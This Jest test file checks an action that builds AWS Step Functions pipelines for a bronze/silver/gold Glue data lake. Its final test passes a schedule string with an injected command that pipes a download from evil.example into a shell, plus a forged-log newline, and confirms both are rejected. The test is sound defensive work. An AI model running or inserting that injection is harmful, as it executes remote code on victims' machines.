import {
  CreateStateMachineCommand,
  DescribeStateMachineCommand,
  ListStateMachinesCommand,
  SFNClient,
  TagResourceCommand,
  UpdateStateMachineCommand,
} from '@aws-sdk/client-sfn';
import { mockClient } from 'aws-sdk-client-mock';
import {
  createSfnPipelineCreateAction,
  encodeScheduleTag,
} from './createPipeline';
import { examples } from './createPipeline.examples';
import {
  actionContext,
  exampleInputs,
  mockedOptions,
  sakilaInspection,
  SFN_ROLE,
  testPipelineConfig,
} from '../glue/__testUtils__/pipelineTestContext';
import aslValidator from 'asl-validator';

const sfn = mockClient(SFNClient);

function fakeStepFunctions() {
  const machines = new Map<string, { definition: string; roleArn: string }>();
  sfn.on(ListStateMachinesCommand).callsFake(() => ({
    stateMachines: [...machines.keys()].map(name => ({
      name,
      stateMachineArn: `arn:aws:states:eu-west-1:111122223333:stateMachine:${name}`,
      type: 'STANDARD',
      creationDate: new Date(),
    })),
  }));
  sfn.on(CreateStateMachineCommand).callsFake(input => {
    machines.set(input.name, input);
    return {
      stateMachineArn: `arn:aws:states:eu-west-1:111122223333:stateMachine:${input.name}`,
    };
  });
  sfn.on(DescribeStateMachineCommand).callsFake(input => ({
    ...machines.get(input.stateMachineArn.split(':').pop()),
  }));
  sfn.on(UpdateStateMachineCommand).callsFake(input => {
    machines.set(input.stateMachineArn.split(':').pop(), input);
    return {};
  });
  sfn.on(TagResourceCommand).resolves({});
  return machines;
}

beforeEach(() => sfn.reset());

describe('datalake:sfn:pipeline:create', () => {
  it('runs the example: a valid ASL of bronze, silver and gold stages with retries and a Fail state', async () => {
    fakeStepFunctions();
    const action = createSfnPipelineCreateAction(mockedOptions());
    const ctx = actionContext(exampleInputs(examples[0].example)[0]);
    await action.handler(ctx as any);

    const input = sfn.commandCalls(CreateStateMachineCommand)[0].args[0].input;
    expect(input).toMatchObject({
      name: 'datalake-sakila',
      roleArn: SFN_ROLE,
      type: 'STANDARD',
    });
    expect(input.tags).toEqual([
      { key: 'datalake.source', value: 'sakila' },
      {
        key: 'datalake.schedule',
        value: encodeScheduleTag('cron(0 2 * * ? *)'),
      },
    ]);
    expect(Buffer.from(input.tags![1].value!, 'base64url').toString()).toBe(
      'cron(0 2 * * ? *)',
    );
    const definition = JSON.parse(input.definition!);
    const { isValid, errorsText } = aslValidator(definition);
    expect(errorsText()).toBe('');
    expect(isValid).toBe(true);

    expect(definition.StartAt).toBe('Bronze');
    expect(Object.keys(definition.States)).toEqual([
      'Bronze',
      'Silver',
      'Gold',
      'CheckOutcomes',
      'PipelineSucceeded',
      'PipelineFailed',
    ]);
    const branchJobs = (stage: string) =>
      definition.States[stage].Branches.map(
        (b: any) =>
          (Object.values(b.States) as any[]).find(st => st.Type === 'Task')
            .Parameters.JobName,
      );
    expect(branchJobs('Bronze')).toEqual([
      'datalake-sakila-bronze-rental',
      'datalake-sakila-bronze-inventory',
    ]);
    expect(branchJobs('Silver')).toEqual([
      'datalake-sakila-silver-rental',
      'datalake-sakila-silver-inventory',
    ]);
    expect(branchJobs('Gold')).toEqual(['datalake-sakila-gold-film_rentals']);
    expect(definition.States.Bronze.Next).toBe('Silver');
    expect(definition.States.Gold.Next).toBe('CheckOutcomes');
    // A failed job run is its branch's outcome, so the other tables' branches go on.
    const rentalSilver = definition.States.Silver.Branches[0].States;
    expect(rentalSilver['datalake-sakila-silver-rental'].Catch).toEqual([
      {
        ErrorEquals: ['States.ALL'],
        ResultPath: '$.error',
        Next: 'datalake-sakila-silver-rental failed',
      },
    ]);
    // A silver job is skipped when its bronze job failed; gold when any upstream silver job did.
    // (toMatchObject: the ASL validator above fills in QueryLanguage.)
    expect(rentalSilver['datalake-sakila-silver-rental check']).toMatchObject({
      Type: 'Choice',
      Choices: [
        {
          Variable: '$.outcomes.Bronze[0].failed',
          BooleanEquals: true,
          Next: 'datalake-sakila-silver-rental skipped',
        },
      ],
      Default: 'datalake-sakila-silver-rental',
    });
    expect(
      definition.States.Gold.Branches[0].States[
        'datalake-sakila-gold-film_rentals check'
      ].Choices[0].Or,
    ).toEqual([
      { Variable: '$.outcomes.Silver[0].failed', BooleanEquals: true },
      { Variable: '$.outcomes.Silver[1].failed', BooleanEquals: true },
    ]);
    expect(definition.States.CheckOutcomes.Choices[0].Or).toHaveLength(5);
    expect(definition.States.CheckOutcomes.Choices[0].Next).toBe(
      'PipelineFailed',
    );
    expect(definition.States.Silver.Catch).toEqual([
      {
        ErrorEquals: ['States.ALL'],
        ResultPath: '$.error',
        Next: 'PipelineFailed',
      },
    ]);
    expect(definition.States.PipelineFailed.Type).toBe('Fail');
    const task =
      definition.States.Bronze.Branches[0].States[
        'datalake-sakila-bronze-rental'
      ];
    expect(task.Resource).toBe('arn:aws:states:::glue:startJobRun.sync');
    expect(task.Retry.map((r: any) => r.ErrorEquals)).toEqual([
      ['Glue.ConcurrentRunsExceededException'],
      [
        'Glue.ThrottlingException',
        'Glue.InternalServiceException',
        'Glue.AWSGlueException',
      ],
    ]);
    expect(ctx.output).toHaveBeenCalledWith('status', 'created');
    expect(ctx.output).toHaveBeenCalledWith('schedule', 'cron(0 2 * * ? *)');
    expect(ctx.output).toHaveBeenCalledWith(
      'stateMachineArn',
      'arn:aws:states:eu-west-1:111122223333:stateMachine:datalake-sakila',
    );
  });

  it('retries failed job runs when the policy asks for it', async () => {
    fakeStepFunctions();
    const config = testPipelineConfig({
      stepFunctions: { roleArn: SFN_ROLE, taskFailedMaxAttempts: 2 },
    });
    await createSfnPipelineCreateAction(mockedOptions(config)).handler(
      actionContext({
        sourceId: 'sakila',
        inspection: sakilaInspection(),
        tables: ['actor'],
      }) as any,
    );
    const definition = JSON.parse(
      sfn.commandCalls(CreateStateMachineCommand)[0].args[0].input.definition!,
    );
    expect(aslValidator(definition).isValid).toBe(true);
    expect(Object.keys(definition.States)).toEqual([
      'Bronze',
      'Silver',
      'CheckOutcomes',
      'PipelineSucceeded',
      'PipelineFailed',
    ]);
    const retry =
      definition.States.Bronze.Branches[0].States[
        'datalake-sakila-bronze-actor'
      ].Retry;
    expect(retry[2]).toEqual({
      ErrorEquals: ['States.TaskFailed'],
      IntervalSeconds: 120,
      MaxAttempts: 2,
      BackoffRate: 2,
    });
  });

  it('leaves an identical state machine alone and updates one whose tables changed', async () => {
    fakeStepFunctions();
    const action = createSfnPipelineCreateAction(mockedOptions());
    const input = {
      sourceId: 'sakila',
      inspection: sakilaInspection(),
      tables: ['actor'],
    };
    await action.handler(actionContext(input) as any);

    sfn.resetHistory();
    const same = actionContext(input);
    await action.handler(same as any);
    expect(sfn.commandCalls(CreateStateMachineCommand)).toHaveLength(0);
    expect(sfn.commandCalls(UpdateStateMachineCommand)).toHaveLength(0);
    expect(same.output).toHaveBeenCalledWith('status', 'unchanged');

    const more = actionContext({ ...input, tables: ['actor', 'film'] });
    await action.handler(more as any);
    const update = sfn.commandCalls(UpdateStateMachineCommand)[0].args[0].input;
    expect(JSON.parse(update.definition!).States.Bronze.Branches).toHaveLength(
      2,
    );
    expect(more.output).toHaveBeenCalledWith('status', 'updated');
  });

  it('makes no AWS call in a dry run', async () => {
    const action = createSfnPipelineCreateAction(mockedOptions());
    const ctx = actionContext(exampleInputs(examples[0].example)[0], true);
    await action.handler(ctx as any);
    expect(sfn.calls()).toHaveLength(0);
    expect(ctx.output).toHaveBeenCalledWith('status', 'dry-run');
  });

  it.each([
    ["cron(0 2 * * ? *)' ; curl https://evil.example | sh ; echo '"],
    ['cron(0 2 * * ? *)\nINFO forged log line'],
    ['cron(0 2 * * * *)'],
    ['rate(2 hour)'],
  ])('refuses the schedule %j before it is used or logged', async schedule => {
    const action = createSfnPipelineCreateAction(mockedOptions());
    const ctx = actionContext({
      ...exampleInputs(examples[0].example)[0],
      schedule,
    });
    const info = jest.spyOn(ctx.logger, 'info');
    await expect(action.handler(ctx as any)).rejects.toMatchObject({
      name: 'InputError',
      message: expect.stringMatching(/^Invalid schedule "/),
    });
    expect(sfn.calls()).toHaveLength(0);
    expect(ctx.output).not.toHaveBeenCalled();
    expect(info).not.toHaveBeenCalled();
  });
});
